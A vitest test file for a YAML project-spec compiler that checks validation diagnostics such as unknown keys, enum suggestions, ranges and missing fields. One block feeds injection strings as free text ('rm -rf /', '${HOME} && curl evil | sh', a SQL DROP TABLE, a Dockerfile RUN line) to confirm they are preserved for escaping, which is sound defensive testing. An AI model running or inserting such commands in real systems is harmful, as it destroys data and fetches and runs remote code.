/** zod issues as diagnostics a user understands, on the right node, all at once. */
import { describe, expect, it } from "vitest";
import { compileSpec, edit, exampleText } from "../../support/frontend/helpers.js";

const SPAM = exampleText("spam");
const IRIS = exampleText("iris");
const S = "projects/spam/project.yaml";
const I = "projects/iris/project.yaml";

describe("validation messages", () => {
  it("points an unknown key at the key itself and suggests the closest allowed key", async () => {
    const r = await compileSpec(edit(SPAM, "    batching: {", "    batchng: {"));
    expect(r.lines).toEqual([`${S}:47:5 error MESH013 steps.serve.batchng: unknown key "batchng"; did you mean "batching"?`]);
  });

  it("lists the allowed keys when no key is close", async () => {
    const r = await compileSpec(edit(SPAM, "    dedupe: true", "    dedupe: true\n    zzzzzz: 1"));
    expect(r.lines).toEqual([`${S}:36:5 error MESH013 steps.register.zzzzzz: unknown key "zzzzzz"\n    hint: allowed here: dataset, schema, split, dedupe, bad_rows`]);
  });

  it("suggests enum values and record keys drawn from an enum", async () => {
    const r = await compileSpec(edit(edit(SPAM, "optimizer: adam", "optimizer: adm"), "gates: { accuracy:", "gates: { acuracy:"));
    expect(r.lines).toEqual([
      `${S}:38:86 error MESH017 steps.train.params.optimizer: expected one of sgd, adam, got "adm"; did you mean "adam"?`,
      `${S}:39:14 error MESH013 steps.train.gates.acuracy: unknown key "acuracy"; did you mean "accuracy"?`,
    ]);
  });

  it("says what a number must be and shows what it got", async () => {
    const r = await compileSpec(edit(edit(SPAM, "max_batch: 32", 'max_batch: "8x"'), "port: 8000", "port: 0"));
    expect(r.lines).toEqual([
      `${S}:46:11 error MESH015 steps.serve.port: expected integer from 1 to 65535, got 0`,
      `${S}:47:28 error MESH012 steps.serve.batching.max_batch: expected integer from 1 to 4096, got "8x"`,
    ]);
  });

  it("reports a missing required field at the mapping that should hold it", async () => {
    const r = await compileSpec(edit(SPAM, "    dataset: spam-assassin\n", ""));
    expect(r.lines).toEqual([`${S}:26:3 error MESH014 steps.register.dataset: required field "dataset" is missing (expected string)`]);
  });

  it("reports a wrong or missing discriminator with the options", async () => {
    expect((await compileSpec(edit(SPAM, "kind: hashed-ngrams", "kind: hashed-ngram"))).lines).toEqual([
      `${S}:14:11 error MESH017 model.features.kind: expected one of hashed-ngrams, standardize, got "hashed-ngram"; did you mean "hashed-ngrams"?`,
    ]);
    expect((await compileSpec(edit(SPAM, "kind: Project\n", ""))).lines).toEqual([`${S}:2:1 error MESH014 kind: required field "kind" is missing (expected one of Project, App)`]);
  });

  it("explains a union by the branch the value was meant for", async () => {
    const r = await compileSpec(edit(SPAM, "text: { type: string }", "text: strin"));
    expect(r.lines).toEqual([`${S}:29:13 error MESH017 steps.register.schema.text: expected one of string, number, integer, boolean, got "strin"; did you mean "string"?`]);
    const r2 = await compileSpec(edit(SPAM, "text: { type: string }", "text: 12"));
    expect(r2.lines).toEqual([`${S}:29:13 error MESH012 steps.register.schema.text: expected one of string, number, integer, boolean or a mapping, got 12`]);
  });

  it("reports every problem at once, in file order, and gives no IR", async () => {
    let text = edit(SPAM, "key: SPAM", "key: spam");
    text = edit(text, "labels: [ham, spam]", "labels: [ham]");
    text = edit(text, "    port: 8000", "    port: 8000\n    portt: 1");
    text = edit(text, "epochs: 8", "epochs: -8");
    const r = await compileSpec(text);
    expect(r.value).toBeUndefined();
    expect(r.lines).toEqual([
      `${S}:5:6 error MESH016 key: "spam" must be upper-case letters, digits and '_', starting with a letter, at most 32 characters`,
      `${S}:11:11 error MESH018 model.labels: expected a list of 2 to 1000 items, got a list of 1 item`,
      `${S}:38:23 error MESH015 steps.train.params.epochs: expected integer from 1 to 10000, got -8`,
      `${S}:47:5 error MESH013 steps.serve.portt: unknown key "portt"; did you mean "port"?`,
    ]);
  });

  it("names the step an App cannot have", async () => {
    const app = exampleText("colors").replace("steps:\n", "steps:\n  train: { trainer: mlp }\n");
    const r = await compileSpec(app);
    expect(r.lines.filter((l) => l.includes("MESH022"))).toEqual([
      'projects/colors/project.yaml:21:3 error MESH022 steps.train: an App serves an externally maintained model and has no "train" step; only "serve"',
    ]);
  });

  it("reports wrong types of nested values against the example spec iris", async () => {
    const r = await compileSpec(edit(IRIS, "dedupe: false", "dedupe: maybe"));
    expect(r.lines).toEqual([`${I}:32:13 error MESH012 steps.register.dedupe: expected true or false, got "maybe"`]);
  });
});

describe("free text is accepted (generators escape it)", () => {
  const evil = ["$(shell rm -rf /)", "`rm -rf /`", "x\nRUN evil", "'; DROP TABLE x; --", "${HOME} && curl evil | sh", "\\\n\t$$"];
  it.each(evil)("description %j", async (text) => {
    const r = await compileSpec(edit(SPAM, "description: Flags unsolicited e-mail (SpamAssassin public corpus).", `description: ${JSON.stringify(text)}`));
    expect(r.diagnostics).toEqual([]);
    expect(r.value?.[0]?.description).toBe(text);
  });
  it.each(evil)("example text %j", async (text) => {
    const r = await compileSpec(edit(SPAM, 'attributes: { text: "WIN a FREE', `attributes: { text: ${JSON.stringify(text)}, x: "WIN a FREE`).replace(', x: "WIN', " } #"));
    expect(r.diagnostics).toEqual([]);
    expect(r.value?.[0]?.serve.examples[0]?.attributes).toEqual({ text });
  });
  it("example names with shell and Make metacharacters", async () => {
    const r = await compileSpec(edit(SPAM, "name: obvious spam", 'name: "$(shell id) `id` $$HOME"'));
    expect(r.diagnostics).toEqual([]);
    expect(r.value?.[0]?.serve.examples[0]?.name).toBe("$(shell id) `id` $$HOME");
  });
});

describe("keys at the wrong level", () => {
  it("says where a known key belongs", async () => {
    const text = `${exampleText("iris")}serve: { port: 1 }\n`;
    expect((await compileSpec(text)).lines).toEqual([`${I}:52:1 error MESH013 serve: unknown key "serve"\n    hint: "serve" belongs under environments.* or steps`]);
    const text2 = edit(exampleText("iris"), "  serve:\n    port: 8001\n", "  serve:\n    port: 8001\n    max_batch: 4\n");
    expect((await compileSpec(text2)).lines).toEqual([
      `${I}:43:5 error MESH013 steps.serve.max_batch: unknown key "max_batch"\n    hint: "max_batch" belongs under environments.*.serve.batching or steps.serve.batching`,
    ]);
  });
});
